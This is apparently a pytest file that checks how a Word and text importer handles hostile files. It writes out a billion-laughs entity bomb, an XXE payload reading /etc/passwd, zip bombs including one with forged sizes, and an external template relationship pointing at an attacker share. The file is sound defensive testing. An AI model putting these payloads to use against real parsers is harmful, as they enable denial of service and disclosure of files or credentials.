"""Hostile input is normal input: each file gets a typed error and the database stays as it was."""

from __future__ import annotations

import os
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from mou_studio.cli import main
from mou_studio.core.errors import CorruptDocument, ImportError_
from mou_studio.core.importing import import_file
from mou_studio.core.importing.reading import MAX_TEXT_BYTES
from tests.core.importing.docx_factory import DocxFactory, blocks_to_body, docx_factory, paragraph
from tests.support.seeds import seed_path


@pytest.fixture
def make_docx(tmp_path: Path) -> DocxFactory:
    """make_docx(body_xml, name=..., prolog=..., parts={...}) → path of a new .docx."""
    return docx_factory(tmp_path)


BILLION_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
    '<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>'
)
XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _valid_docx(make_docx: DocxFactory, name: str = "ok.docx") -> Path:
    return make_docx(blocks_to_body(seed_path("000").read_text(encoding="utf-8")), name=name)


def _zip_bomb(path: Path) -> Path:
    """A few KB that would unpack to 45 MB of zeros, honestly declared."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * (45 * 1024 * 1024))
    return path


def _lying_zip_bomb(path: Path) -> Path:
    """A bomb whose headers declare 1,000 bytes for 8 MB of content: caught while streaming."""
    _zip_bomb_small = 8 * 1024 * 1024
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<" * _zip_bomb_small)
    data = bytearray(path.read_bytes())
    local = data.find(b"PK\x03\x04", data.find(b"word/document.xml") - 40)
    struct.pack_into("<I", data, local + 22, 1000)
    central = data.find(b"PK\x01\x02" + data[local + 4:local + 6])
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + name_len] == b"word/document.xml":
            struct.pack_into("<I", data, central + 24, 1000)
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    return path


def _external_relationship(make_docx: DocxFactory) -> Path:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="\\\\attacker\\share\\t.dotm" TargetMode="External"/></Relationships>'
    )
    return make_docx(paragraph("Article 1"), parts={"word/_rels/document.xml.rels": rels})


HostileFile = Callable[[Path, DocxFactory], Path]

HOSTILE: dict[str, tuple[HostileFile, str]] = {
    "zip bomb": (lambda d, m: _zip_bomb(d / "bomb.docx"), "zip bomb"),
    "zip bomb with lying sizes": (lambda d, m: _lying_zip_bomb(d / "liar.docx"), "zip bomb"),
    "entity bomb": (lambda d, m: m(paragraph("x"), name="laughs.docx", prolog=BILLION_LAUGHS),
                    "entity"),
    "external entity": (lambda d, m: m(paragraph("&xxe;"), name="xxe.docx", prolog=XXE),
                        "entity"),
    "external relationship": (lambda d, m: _external_relationship(m), "external content"),
    "truncated zip": (lambda d, m: _truncated(_valid_docx(m), d / "cut.docx"), "damaged"),
    "zip renamed .txt": (lambda d, m: _renamed(_valid_docx(m), d / "memo.txt"), ".docx"),
    "text renamed .docx": (lambda d, m: _write(d / "t.docx", b"Article 1\n"), "not a Word"),
    "empty .txt": (lambda d, m: _write(d / "e.txt", b""), "empty"),
    "empty .docx": (lambda d, m: _write(d / "e.docx", b""), "empty"),
    "random bytes .txt": (lambda d, m: _write(d / "r.txt", os.urandom(4096)), "binary"),
    "random bytes .docx": (lambda d, m: _write(d / "r.docx", b"PK" + os.urandom(4096)),
                           "damaged"),
    "zip without document": (lambda d, m: _zip_without_document(d / "z.docx"), "not a Word"),
    "200 MB text file": (lambda d, m: _sparse(d / "huge.txt", 200 * 1024 * 1024), "too large"),
}


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _truncated(source: Path, path: Path) -> Path:
    data = source.read_bytes()
    return _write(path, data[: len(data) // 2])


def _renamed(source: Path, path: Path) -> Path:
    return _write(path, source.read_bytes())


def _zip_without_document(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hello")
    return path


def _sparse(path: Path, size: int) -> Path:
    """A file that reports ``size`` bytes without using the disk (the size check stops it)."""
    with path.open("wb") as handle:
        handle.truncate(size)
    return path


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_file_gets_a_typed_error(case: str, tmp_path: Path,
                                         make_docx: DocxFactory) -> None:
    build, words = HOSTILE[case]
    path = build(tmp_path, make_docx)
    with pytest.raises(CorruptDocument) as caught:
        import_file(path)
    assert words.lower() in str(caught.value).lower()


def test_external_entity_never_reaches_the_text(tmp_path: Path, make_docx: DocxFactory) -> None:
    path = make_docx(paragraph("&xxe;"), name="xxe.docx", prolog=XXE)
    with pytest.raises(CorruptDocument) as caught:
        import_file(path)
    assert "root:" not in str(caught.value)


def test_missing_path_and_folder_are_import_errors(tmp_path: Path) -> None:
    with pytest.raises(ImportError_, match="no such file"):
        import_file(tmp_path / "nowhere.txt")
    with pytest.raises(ImportError_, match="folder"):
        import_file(tmp_path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads unreadable files")
def test_unreadable_file_is_an_import_error(tmp_path: Path) -> None:
    path = _write(tmp_path / "locked.txt", b"Article 1")
    path.chmod(0)
    with pytest.raises(ImportError_, match="cannot read"):
        import_file(path)


def test_text_limit_is_far_below_the_hostile_size() -> None:
    assert MAX_TEXT_BYTES < 200 * 1024 * 1024


def _dump(db_path: Path) -> list[str]:
    conn = sqlite3.connect(db_path)
    try:
        return list(conn.iterdump())
    finally:
        conn.close()


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_cli_refuses_hostile_file_and_database_is_unchanged(
    case: str, tmp_path: Path, make_docx: DocxFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    db_path = tmp_path / "studio.db"
    assert main(["--db", str(db_path), "list"]) == 0
    before = _dump(db_path)
    capsys.readouterr()
    path = HOSTILE[case][0](tmp_path, make_docx)
    assert main(["--db", str(db_path), "import", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("mou-studio-cli: error: ") and err.count("\n") == 1
    assert _dump(db_path) == before
